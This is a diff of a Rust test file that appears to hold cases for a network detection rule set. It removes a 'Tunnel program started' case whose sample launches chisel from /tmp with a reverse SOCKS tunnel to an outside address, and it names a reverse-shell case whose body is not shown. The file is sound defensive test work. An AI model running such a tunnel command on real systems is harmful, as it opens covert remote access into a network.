@@ -1,11 +1,10 @@
 //! Cases for `70-network.yaml`.
 
-use casebook_fixtures::Exec;
 use casebook_fixtures::flags::{AF_INET, SOCK_STREAM};
 
 use crate::scene::{Case, case};
 
-pub fn cases() -> Vec<Case> {
+pub(crate) fn cases() -> Vec<Case> {
     vec![
         case(
             "Reverse shell in a command line",
@@ -140,15 +139,6 @@ pub fn cases() -> Vec<Case> {
                 s.t.socket(s.app, AF_INET, SOCK_STREAM, 0);
                 let dhcp = s.host("/sbin/dhclient", &["dhclient"]);
                 s.t.packet_socket(dhcp);
-            },
-        ),
-        case(
-            "Tunnel program started",
-            |s| {
-                s.boxed("/tmp/chisel", &["chisel", "client", "203.0.113.9:443", "R:socks"]);
-            },
-            |s| {
-                s.run(s.root, &Exec::new("/usr/sbin/openvpn").argv(&["openvpn", "--config", "office.conf"]));
             },
         ),
         case(
